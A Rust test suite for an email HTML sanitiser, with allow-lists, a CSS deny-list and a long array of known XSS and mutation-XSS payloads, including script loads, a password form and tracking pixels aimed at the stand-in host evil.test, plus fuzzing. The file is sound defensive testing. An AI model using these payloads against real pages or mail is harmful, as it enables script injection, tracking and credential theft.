//! HTML made to get past a sanitiser: whatever it was, a browser that reads the result finds nothing that runs, loads,
//! moves or asks, and reading it twice gives the same.

#![allow(clippy::unwrap_used, clippy::panic)] // helpers outside of #[test] functions

use std::cell::RefCell;

use bytes::Bytes;
use centralino_channels::email::html::sanitise;
use centralino_channels::email::read::parse_mail_json;
use html5ever::tendril::StrTendril;
use html5ever::tokenizer::{
    BufferQueue, TagKind, Token, TokenSink, TokenSinkResult, Tokenizer, TokenizerOpts,
};
use proptest::prelude::*;

/// What may stand in a mail that is shown. Written down here a second time on purpose: an element added to the product
/// must be thought about twice.
const ELEMENTS: &[&str] = &[
    "a",
    "abbr",
    "address",
    "article",
    "b",
    "bdi",
    "bdo",
    "big",
    "blockquote",
    "br",
    "caption",
    "center",
    "cite",
    "code",
    "col",
    "colgroup",
    "dd",
    "del",
    "details",
    "dfn",
    "div",
    "dl",
    "dt",
    "em",
    "figcaption",
    "figure",
    "font",
    "footer",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "header",
    "hr",
    "i",
    "img",
    "ins",
    "kbd",
    "li",
    "main",
    "mark",
    "ol",
    "p",
    "pre",
    "q",
    "rp",
    "rt",
    "ruby",
    "s",
    "samp",
    "section",
    "small",
    "span",
    "strike",
    "strong",
    "sub",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "time",
    "tr",
    "tt",
    "u",
    "ul",
    "var",
    "wbr",
];

/// Attributes that name nothing to load and run nothing.
const ATTRIBUTES: &[&str] = &[
    "align",
    "alt",
    "bgcolor",
    "border",
    "cellpadding",
    "cellspacing",
    "class",
    "color",
    "colspan",
    "data-misleading",
    "data-remote-src",
    "dir",
    "face",
    "height",
    "hspace",
    "href",
    "id",
    "lang",
    "name",
    "noshade",
    "nowrap",
    "rel",
    "rowspan",
    "size",
    "span",
    "src",
    "start",
    "style",
    "target",
    "title",
    "type",
    "valign",
    "value",
    "vspace",
    "width",
];

struct Tag {
    name: String,
    attributes: Vec<(String, String)>,
}

#[derive(Default)]
struct Seen {
    tags: RefCell<Vec<Tag>>,
    text: RefCell<String>,
    odd: RefCell<Vec<String>>,
}

impl TokenSink for Seen {
    type Handle = ();

    fn process_token(&self, token: Token, _: u64) -> TokenSinkResult<()> {
        match token {
            Token::TagToken(tag) if tag.kind == TagKind::StartTag => self.tags.borrow_mut().push(Tag {
                name: tag.name.to_string(),
                attributes: tag
                    .attrs
                    .iter()
                    .map(|attribute| (attribute.name.local.to_string(), attribute.value.to_string()))
                    .collect(),
            }),
            Token::CharacterTokens(text) => self.text.borrow_mut().push_str(&text),
            Token::TagToken(_) | Token::EOFToken => {}
            // Comments, document types, NULs and anything a parser stumbles over.
            other => self.odd.borrow_mut().push(format!("{other:?}")),
        }
        TokenSinkResult::Continue
    }
}

/// The tokens of `html` as every browser reads them. No element of the allow-list changes how the rest is read.
fn read(html: &str) -> Seen {
    let tokenizer = Tokenizer::new(Seen::default(), TokenizerOpts::default());
    let input = BufferQueue::default();
    input.push_back(StrTendril::from(html));
    let _ = tokenizer.feed(&input);
    tokenizer.end();
    tokenizer.sink
}

/// What is wrong with sanitised HTML; empty when nothing is.
fn faults(clean: &str) -> Vec<String> {
    let seen = read(clean);
    let mut faults = seen.odd.into_inner();
    for tag in seen.tags.into_inner() {
        if !ELEMENTS.contains(&tag.name.as_str()) {
            faults.push(format!("<{}>", tag.name));
        }
        for (name, value) in &tag.attributes {
            if !ATTRIBUTES.contains(&name.as_str()) {
                faults.push(format!("<{} {name}>", tag.name));
            }
            if let Some(fault) = value_fault(&tag.name, name, value) {
                faults.push(format!("<{} {name}={value:?}>: {fault}", tag.name));
            }
        }
        let is_link = tag.name == "a" && tag.attributes.iter().any(|(name, _)| name == "href");
        let stays_outside = tag
            .attributes
            .iter()
            .any(|(name, value)| name == "rel" && value.contains("noopener") && value.contains("noreferrer"));
        if is_link && !stays_outside {
            faults.push("a link that knows where it came from".to_owned());
        }
    }
    faults
}

fn value_fault(element: &str, name: &str, value: &str) -> Option<&'static str> {
    // What browsers drop before they look for a scheme.
    let bare: String = value
        .chars()
        .filter(|c| !c.is_control() && !c.is_whitespace())
        .collect::<String>()
        .to_lowercase();
    let starts = |schemes: &[&str]| schemes.iter().any(|scheme| bare.starts_with(scheme));
    match (element, name) {
        ("a", "href") if !starts(&["http:", "https:", "mailto:", "tel:"]) => Some("leads elsewhere"),
        ("img", "src")
            if !starts(&[
                "cid:",
                "data:image/png",
                "data:image/jp",
                "data:image/gif",
                "data:image/webp",
            ]) =>
        {
            Some("is fetched")
        }
        ("img", "data-remote-src") if !starts(&["http:", "https:"]) => Some("is no address"),
        ("a", "target") if value != "_blank" => Some("is another window"),
        (_, "href" | "src") if !matches!(element, "a" | "img") => Some("loads something"),
        (_, "style") => style_fault(&bare),
        _ => None,
    }
}

fn style_fault(bare: &str) -> Option<&'static str> {
    const BAD: &[&str] = &[
        "url(",
        "expression",
        "javascript",
        "position:",
        "z-index",
        "behavior",
        "-moz-binding",
        "@import",
        "image(",
        "image-set",
        "var(",
        "attr(",
        "\\",
        "/*",
        "opacity",
        "transform",
        "animation",
        "content:",
        "cursor",
        "filter",
        "inset",
        "pointer-events",
        "visibility",
    ];
    BAD.iter()
        .any(|bad| bare.contains(bad))
        .then_some("is a style that loads, moves or hides")
}

/// Attacks as they are known from lists of such, by what they try. None of their canaries may come through as markup.
const ATTACKS: &[&str] = &[
    // scripts and their hiding places
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.test/x.js></sCrIpT>",
    "<script/x>alert(1)</script\n>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "<script <b>>alert(1)</script>",
    "<!--><script>alert(1)</script-->",
    "<!--x--!><script>alert(1)</script>",
    "<!-- --!> <img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<? foo=\"><script>alert(1)</script>\">",
    "</><script>alert(1)</script>",
    "<%<!--'%><script>alert(1);</script -->",
    "<title><img title=\"</title><script>alert(1)</script>\"></title>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<noframes><p title=\"</noframes><img src=x onerror=alert(1)>\">",
    "<noembed><img alt=\"</noembed><img src onerror=alert(1)>\"></noembed>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<plaintext><script>alert(1)</script>",
    "<listing>&lt;script&gt;alert(1)&lt;/script&gt;</listing>",
    "<template><script>alert(1)</script><img src=x onerror=alert(1)></template>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror=alert(1)>\">",
    // event handlers
    "<img src=x onerror=alert(1)>",
    "<img/src=`x`onerror=alert(1)>",
    "<img src=\"x\"onerror=\"alert(1)\">",
    "<img src='x' oNeRrOr = 'alert(1)'>",
    "<img \u{c}src=x\u{c}onerror=alert(1)>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<p onmouseover=alert(1)>move</p>",
    "<body onload=alert(1)>hello",
    "<details open ontoggle=alert(1)>x</details>",
    "<a href=# onfocus=alert(1) autofocus tabindex=1>x</a>",
    "<div onpointerenter=alert(1) style=\"width:100px\">x</div>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input onfocus=alert(1) autofocus>",
    "<b/onclick=alert(1)//=\">x</b>",
    "<p =onclick=alert(1)>x</p>",
    // addresses that run
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java&#10;script:alert(1)\">x</a>",
    "<a href=\"&#1;javascript:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"feed:javascript:alert(1)\">x</a>",
    "<a href=\"view-source:javascript:alert(1)\">x</a>",
    "<a href=\"file:///etc/passwd\">x</a>",
    "<a href=\"blob:https://evil.test/x\">x</a>",
    "<a href=\"//evil.test/x\">x</a>",
    "<a href=\"/api/v1/session\">x</a>",
    "<a href=\"?confirm=1\">x</a>",
    "<a href=\"cid:x\">x</a>",
    "<a href=\"http://x\" target=_top rel=opener>x</a>",
    "<a ping=//evil.test href=http://x.test>x</a>",
    "<a href='http://x.test' href='javascript:alert(1)'>x</a>",
    "<a href=\"http://x.test/\" download=evil.exe>x</a>",
    "<area href=javascript:alert(1)>",
    "<img src=javascript:alert(1)>",
    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<img src=\"data:text/html,<script>alert(1)</script>\">",
    "<img srcset=\"http://evil.test/a 1x, http://evil.test/b 2x\">",
    "<img src=cid:a srcset=http://evil.test/a sizes=100vw>",
    "<img lowsrc=http://evil.test/a dynsrc=http://evil.test/b longdesc=http://evil.test/c>",
    "<img src=//evil.test/pixel.gif>",
    "<img src=\"http://evil.test/pixel.gif\">",
    "<img src=\"&#104;ttp://evil.test/pixel.gif\">",
    "<img src=\"  http://evil.test/pixel.gif\" alt=' src=\"x'>",
    "<img alt=\"x src=&quot;\" src=\"https://evil.test/a?b=&quot;&amp;c\">",
    "<picture><source srcset=http://evil.test/a><img src=cid:a></picture>",
    "<table background=http://evil.test/a><tr><td background=http://evil.test/b>x</table>",
    "<body background=http://evil.test/a>x",
    "<input type=image src=http://evil.test/a>",
    "<video poster=http://evil.test/a src=http://evil.test/b></video>",
    "<object data=http://evil.test/a.swf><param name=x value=y></object>",
    "<embed src=http://evil.test/a.swf>",
    "<applet code=Evil></applet>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<frameset><frame src=http://evil.test></frameset>",
    "<portal src=http://evil.test></portal>",
    "<link rel=stylesheet href=http://evil.test/a.css>",
    "<link rel=prefetch href=http://evil.test/a>",
    "<link rel=import href=data:text/html,x>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<meta http-equiv=refresh content=\"0;url=//evil.test\">",
    "<meta http-equiv=Content-Security-Policy content=\"img-src *\">",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<base href=//evil.test/><a href=x>x</a>",
    "<base target=_top>",
    "<bgsound src=http://evil.test/a>",
    "<layer src=http://evil.test/a>",
    "<html manifest=http://evil.test/a>",
    // forms
    "<form action=//evil.test><input name=password type=password><button>Sign in</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input type=submit formaction=//evil.test>",
    "<isindex action=javascript:alert(1) type=image>",
    "<textarea name=x>y</textarea><select><option>z</select>",
    "<keygen autofocus onfocus=alert(1)>",
    "<dialog open>Session ended<form method=dialog></form></dialog>",
    "<output form=x>y</output>",
    // other languages inside
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><set attributeName=onload to=alert(1)></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\"></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
    "<svg><desc><table><tr><img src=x onerror=alert(1)></table></desc></svg>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mtext><table><mglyph><style><math><img src onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><mi><table><mi><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(1) src=1>\">",
    "<xml><i><b>x</b></i></xml><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
    "<custom-element is=script onclick=alert(1)>x</custom-element>",
    // mutations by the parser
    "<p title=\"<!--<img title='--><img src=x onerror=alert(1)>'>\">",
    "<table><td><table><td><a title=\"</table><img src=x onerror=alert(1)>\">",
    "<a><table><a href=javascript:alert(1)>x",
    "<b><p title='</b><img src=x onerror=alert(1)>'></b>",
    "<li><table><form><li><input onfocus=alert(1)>",
    "<div id=\"`><img src=x onerror=alert(1)>\">",
    "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
    "<p title=\"&quot;&gt;&lt;img src=x onerror=alert(1)&gt;\">x</p>",
    "<p title=\"&lt;/p&gt;&lt;script&gt;\">&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    "<p lang='en\" onclick=\"alert(1)'>x</p>",
    "<font face='x\" onclick=\"alert(1)'>x</font>",
    "<a href='http://x.test/\" onclick=\"alert(1)'>x</a>",
    "<a href=\"http://x.test/<script>alert(1)</script>\">x</a>",
    "<a name=\"</a><script>alert(1)</script>\">x</a>",
    "<pre>\n\n<img src=x onerror=alert(1)></pre>",
    "<ruby><rtc><img src=x onerror=alert(1)>",
    "<img title=\"a\0b\" src=\"java\0script:alert(1)\" onerror\0=alert(1)>",
    "<\0script>alert(1)</script>",
    "<img src=x one\0rror=alert(1)>",
    "\u{feff}<script>alert(1)</script>\u{fffe}",
    // styles
    "<style>@import url(http://evil.test/a.css);</style>",
    "<style>*{background:url(http://evil.test)}</style>",
    "<style><!--</style><img src=x onerror=alert(1)>-->",
    "<p style=\"background:url(http://evil.test/a)\">x</p>",
    "<p style=\"background-image:url('http://evil.test/a')\">x</p>",
    "<p style=\"background:u\\72l(http://evil.test/a)\">x</p>",
    "<p style=\"background:\\75\\72\\6c(http://evil.test/a)\">x</p>",
    "<p style=\"background:ur/**/l(http://evil.test/a)\">x</p>",
    "<p style=\"background-color:red;/*;*/background:url(http://evil.test/a)\">x</p>",
    "<p style=\"list-style:url(http://evil.test/a)\">x</p>",
    "<p style=\"list-style-type:image-set('http://evil.test/a' 1x)\">x</p>",
    "<p style=\"cursor:url(http://evil.test/a),auto\">x</p>",
    "<p style=\"content:url(http://evil.test/a)\">x</p>",
    "<p style=\"border-image:url(http://evil.test/a)\">x</p>",
    "<p style=\"font-family:x;src:url(http://evil.test/a)\">x</p>",
    "<p style=\"color:red;background:&#117;rl(http://evil.test/a)\">x</p>",
    "<p style='font:1px \"x;background:url(http://evil.test/a)\"'>x</p>",
    "<p style=\"width:expression(alert(1))\">x</p>",
    "<p style=\"wid\\th:exp/**/ression(alert(1))\">x</p>",
    "<p style=\"-moz-binding:url(http://evil.test/a.xml#x)\">x</p>",
    "<p style=\"behavior:url(#default#time2)\">x</p>",
    "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:9\">Sign in</p>",
    "<p style=\"POSITION : absolute; inset:0\">x</p>",
    "<p style=\"position:sticky;transform:scale(99)\">x</p>",
    "<p style=\"opacity:0;pointer-events:none\">x</p>",
    "<p style=\"--x:url(http://evil.test/a);color:var(--x)\">x</p>",
    "<p style=\"color:rgb(url(http://evil.test))\">x</p>",
    "<p style=\"width:calc(1px + attr(title))\">x</p>",
    "<p style=\"animation:x 1s;filter:url(#x)\">x</p>",
    "<p style=\"color:red}body{display:none\">x</p>",
    "<p style=\"color:red</style><script>alert(1)</script>\">x</p>",
    "<p style='color:red;\" onclick=\"alert(1)'>x</p>",
    "<div class=\"fixed inset-0 z-50\" id=\"app\">x</div>",
    "<span id=__proto__ name=constructor>x</span><a name=cookie id=documentElement>x</a>",
];

#[test]
fn nothing_that_acts_is_left() {
    assert!(ATTACKS.len() >= 60);
    let mut wrong = Vec::new();
    for attack in ATTACKS {
        let clean = sanitise(attack).unwrap();
        let mut faults = faults(&clean);
        if !settled(&clean) {
            faults.push("changes when it is cleaned again".to_owned());
        }
        if !faults.is_empty() {
            wrong.push(format!("{attack}\n  → {clean}\n  {faults:?}"));
        }
    }
    assert!(
        wrong.is_empty(),
        "{} came through:\n{}",
        wrong.len(),
        wrong.join("\n")
    );
}

/// HTML as its tokens, attributes in one order, without the marks a pass sets itself: those are no attributes of mails, so
/// a second pass takes them off.
fn canonical(html: &str) -> Vec<String> {
    let seen = read(html);
    let tags = seen.tags.into_inner().into_iter().map(|tag| {
        let mut attributes = tag.attributes;
        // A style of which nothing is left says nothing.
        attributes
            .retain(|(name, value)| !(name.starts_with("data-") || name == "style" && value.is_empty()));
        attributes.sort();
        format!("<{} {attributes:?}>", tag.name)
    });
    // The first line break in a <pre> is swallowed by each reading (HTML standard, "in body" insertion mode).
    let text = seen.text.into_inner();
    tags.chain(text.split_whitespace().map(str::to_owned)).collect()
}

/// Whether a second pass finds nothing left to do.
fn settled(clean: &str) -> bool {
    canonical(&sanitise(clean).unwrap()) == canonical(clean)
}

/// Each attack with other mail around it, inside of it and after it.
#[test]
fn nor_in_the_middle_of_a_mail() {
    let frames = [
        ("<html><body><div class=gmail_quote>", "</div></body></html>"),
        ("<table><tr><td>", "</td></tr></table>"),
        ("<table><caption><b>", ""),
        ("<p title='", "'>x</p>"),
        ("<p title=\"", "\">x</p>"),
        ("<!--", "-->"),
        ("<a href=http://x.test>", "</a>"),
        ("<pre><code>", "</code></pre>"),
        ("<select>", "</select>"),
        ("<svg>", "</svg>"),
        ("<math><mtext>", "</mtext></math>"),
        ("<style>", "</style>"),
        ("<noscript>", "</noscript>"),
        ("<template>", "</template>"),
        ("<b><i><u>", ""),
    ];
    let mut wrong = Vec::new();
    for attack in ATTACKS {
        for (before, after) in frames {
            let html = format!("{before}{attack}{after}<p>the end</p>");
            let clean = sanitise(&html).unwrap();
            let mut faults = faults(&clean);
            if !settled(&clean) {
                faults.push("changes when it is cleaned again".to_owned());
            }
            if !faults.is_empty() {
                wrong.push(format!("{html}\n  → {clean}\n  {faults:?}"));
            }
        }
    }
    assert!(
        wrong.is_empty(),
        "{} came through:\n{}",
        wrong.len(),
        wrong.join("\n")
    );
}

/// The same through the whole parser, as `parse-mail` prints it.
#[test]
fn the_parser_hands_out_sanitised_html_only() {
    for attack in ATTACKS {
        let raw = format!(
            "From: eve@evil.example\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<div>{attack}</div>\r\n"
        );
        let printed = parse_mail_json(&Bytes::from(raw));
        if let Some(html) = printed["html"].as_str() {
            assert_eq!(faults(html), Vec::<String>::new(), "{attack}\n→ {html}");
        }
    }
}

/// The checks themselves see what they are made for.
#[test]
fn what_is_dangerous_is_seen() {
    for bad in [
        "<script>",
        "<p onclick=x>",
        "<a href=javascript:x>",
        "<a href=http://x.test>",
        "<img src=http://x.test>",
        "<p style=position:fixed>",
        "<!-- x -->",
        "<img src=\"java\nscript:x\">",
        "<svg>",
    ] {
        assert!(!faults(bad).is_empty(), "{bad}");
    }
    assert!(faults("<p style=\"color:red\">a <b>b</b> &lt;script&gt;</p>").is_empty());
}

/// What people write stays: a sanitiser that drops everything is safe and useless.
#[test]
fn what_people_write_stays() {
    for plain in [
        "<p style=\"color:#c00;font-weight:bold\">Hello <b>you</b></p>",
        "<table border=\"1\"><tbody><tr><td colspan=\"2\">1</td></tr></tbody></table>",
        "<img src=\"cid:logo@x\" alt=\"Logo\">",
        "<div class=\"gmail_quote\"><blockquote type=\"cite\">No</blockquote></div>",
        "<p style=\"color:rgb(1, 2, 3)\">x</p>",
        "<ul><li>a</li></ul>",
    ] {
        assert_eq!(sanitise(plain).unwrap(), plain);
    }
    let link = sanitise("<a href=\"https://shop.example/a?b=1&amp;c=2\">Shop</a>").unwrap();
    assert!(
        link.contains("href=\"https://shop.example/a?b=1&amp;c=2\""),
        "{link}"
    );
    assert!(link.contains("target=\"_blank\""), "{link}");
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 600, failure_persistence: None, ..ProptestConfig::default() })]

    /// Pieces of attacks, shuffled.
    #[test]
    fn shuffled_pieces_stay_harmless(pieces in proptest::collection::vec(piece(), 1..14)) {
        let html = pieces.concat();
        if let Ok(clean) = sanitise(&html) {
            let found = faults(&clean);
            prop_assert!(found.is_empty(), "{}\n→ {}\n{:?}", html, clean, found);
            prop_assert!(settled(&clean), "{}\n→ {}", html, clean);
        }
    }
}

fn piece() -> impl Strategy<Value = String> {
    let attack = (
        any::<prop::sample::Index>(),
        any::<prop::sample::Index>(),
        any::<prop::sample::Index>(),
    )
        .prop_map(|(which, from, to)| {
            let attack: Vec<char> = ATTACKS[which.index(ATTACKS.len())].chars().collect();
            let (a, b) = (from.index(attack.len()), to.index(attack.len()));
            attack[a.min(b)..=a.max(b)].iter().collect()
        });
    let known = prop::sample::select(vec![
        "<",
        ">",
        "\"",
        "'",
        "`",
        "=",
        "/",
        "<!--",
        "-->",
        "<![CDATA[",
        "]]>",
        "</p>",
        "<p title=\"",
        "<style>",
        "</style>",
        "<svg>",
        "</svg>",
        "<math>",
        "<mtext>",
        "<mglyph>",
        "<table>",
        "<td>",
        "</table>",
        "<form>",
        "<a href=\"",
        "<img src=x onerror=alert(1)>",
        "onerror=alert(1) ",
        "&lt;",
        "&quot;",
        "&#x3c;",
        "\0",
        "<noscript>",
        "<template>",
        "<select>",
        "<textarea>",
        "<title>",
        "<b>",
        "</b>",
        "style=\"",
        "color:red;",
        "url(",
        "\\",
        "javascript:",
    ])
    .prop_map(str::to_owned);
    prop_oneof![2 => attack, 3 => known]
}
